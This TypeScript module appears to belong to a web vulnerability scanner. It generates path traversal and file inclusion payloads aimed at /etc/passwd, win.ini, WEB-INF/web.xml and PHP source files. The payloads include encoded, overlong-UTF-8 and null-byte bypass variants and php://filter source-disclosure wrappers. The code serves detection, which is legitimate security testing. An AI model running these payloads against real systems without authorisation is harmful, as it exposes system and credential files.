import type { InjectionPoint } from '../../../evidence/parse/application/injection-point.ts';
import { type KnownFile, PASSWD, SOURCE, WEB_XML, WIN_INI } from './known-files.ts';

export interface FilePath {
  readonly file: KnownFile;
  readonly value: string;
}

const UP = '../'.repeat(10);
const EXTENSION = /\.[a-z0-9]{1,5}$/i;

/** Values that name a known file, the most likely first. */
export function pathsFor(point: InjectionPoint, isThorough: boolean): readonly FilePath[] {
  const { value } = point;
  const extension = EXTENSION.exec(value)?.[0] ?? '';
  const folder = value.includes('/') && !/^[a-z]+:/i.test(value) ? value.slice(0, value.lastIndexOf('/') + 1) : '';
  const passwd = [
    `${UP}etc/passwd`,
    '/etc/passwd',
    ...(folder === '' || folder === '/' ? [] : [`${folder}${UP}etc/passwd`]),
    `${'....//'.repeat(10)}etc/passwd`,
    'file:///etc/passwd',
    ...(extension === '' ? [] : [`${UP}etc/passwd\0${extension}`]),
    `${'..%2f'.repeat(10)}etc%2fpasswd`,
    ...(isThorough
      ? [`${'..\\'.repeat(10)}etc\\passwd`, `${'%c0%ae%c0%ae/'.repeat(10)}etc/passwd`, `/${UP}etc/passwd`]
      : []),
  ];
  const windows = [`${'..\\'.repeat(10)}windows\\win.ini`, ...(isThorough ? ['C:\\windows\\win.ini'] : [])];
  const java = ['/WEB-INF/web.xml', ...(isThorough ? ['../WEB-INF/web.xml', '../../WEB-INF/web.xml'] : [])];
  return [
    ...passwd.map((one) => ({ file: PASSWD, value: one })),
    ...(isPhp(point) ? sources(point) : []),
    ...java.map((one) => ({ file: WEB_XML, value: one })),
    ...windows.map((one) => ({ file: WIN_INI, value: one })),
  ];
}

function isPhp({ url, value }: InjectionPoint): boolean {
  return /\.php\b|\/$/i.test(new URL(url).pathname) || value.endsWith('.php');
}

/** The script itself, and what it is asked for, with and without the ending that it may append. */
function sources({ url, value }: InjectionPoint): FilePath[] {
  const { pathname } = new URL(url);
  const script = pathname.slice(pathname.lastIndexOf('/') + 1) || 'index.php';
  const names = [script, script.replace(/\.php$/, ''), ...(/^[\w./-]{1,60}$/.test(value) ? [value] : [])];
  return [...new Set(names)].map((name) => ({
    file: SOURCE,
    value: `php://filter/convert.base64-encode/resource=${name}`,
  }));
}

/** The same value for a file that does not exist. */
export function elsewhere({ file, value }: FilePath, token: string): string {
  return file === SOURCE ? value.replace(/resource=.*/, `resource=${token}`) : value.replace(file.name, token);
}

/** The same file in another form. */
export function inAnotherForm({ file, value }: FilePath): string {
  return file === PASSWD ? value.replace(/etc(\/|%2f)passwd/, 'etc$1.$1passwd') : value;
}
